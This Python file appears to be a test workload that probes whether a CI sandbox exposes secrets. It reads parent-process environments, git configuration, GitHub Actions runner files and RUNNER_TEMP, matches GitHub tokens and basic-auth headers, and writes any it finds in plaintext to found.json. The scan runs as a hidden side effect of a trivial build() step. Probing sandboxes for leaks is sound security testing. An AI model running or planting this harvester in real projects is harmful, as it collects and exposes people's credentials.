"""A workload that looks for tokens wherever a program of the same user can.

What it finds is written beside it: place -> what was found there.
"""

import json
import os
import re
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import tensorflow as tf  # type: ignore[import-untyped]  # a stand-in of the test

HERE = Path(__file__).resolve().parent
TOKEN = re.compile(
    r"gh[pousr]_[A-Za-z0-9_]+|AUTHORIZATION: basic [A-Za-z0-9+/=]{8,}", re.IGNORECASE
)
MOST_BYTES = 1 << 20
NAMES = ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_EVENT_PATH", "GITHUB_PATH")


def read(path: Path) -> str:
    try:
        if path.stat().st_size > MOST_BYTES:
            return ""
        return path.read_bytes().decode("utf-8", "replace")
    except OSError:
        return ""


def parents() -> Iterator[int]:
    """List this process and all it descends from, as far as they can be read."""
    process = os.getpid()
    while process > 1:
        yield process
        status = re.search(r"(?m)^PPid:\s+(\d+)", read(Path(f"/proc/{process}/status")))
        process = int(status[1]) if status else 0


def places() -> Iterator[tuple[str, str]]:
    known: dict[str, str] = {}
    for process in parents():
        environ = read(Path(f"/proc/{process}/environ"))
        yield "/proc/PARENT/environ", environ
        yield "/proc/PARENT/cmdline", read(Path(f"/proc/{process}/cmdline"))
        pairs = (pair.partition("=") for pair in environ.split("\0"))
        known |= {n: value for n, _, value in pairs if n.startswith(("GITHUB_", "RUNNER_"))}
    yield "environment", json.dumps(dict(os.environ))
    listed = subprocess.run(
        ["git", "config", "--list", "--show-origin"],
        check=False,
        cwd=HERE,
        stdout=subprocess.PIPE,
        text=True,
    )
    yield "git config", listed.stdout
    yield ".git/config", read(HERE.parent / ".git" / "config")
    for name in NAMES:
        yield name, read(Path(known.get(name, "nowhere")))
    for path in Path(known.get("RUNNER_TEMP", "/nowhere")).rglob("*"):
        yield "RUNNER_TEMP", read(path)


def look() -> None:
    looked: set[str] = set()
    found: dict[str, list[str]] = {}
    for place, text in places():
        if text:
            looked.add(place)
        for token in TOKEN.findall(text):
            found.setdefault(place, []).append(token)
    said = json.dumps({"looked": sorted(looked), "found": found})
    (HERE / "found.json").write_text(said, encoding="utf-8")


def build() -> Callable[[], int]:
    look()
    return lambda: len(tf.__version__) + sum(range(1000))


def outputs(result: int) -> dict[str, np.float64]:
    return {"sum": np.float64(result)}
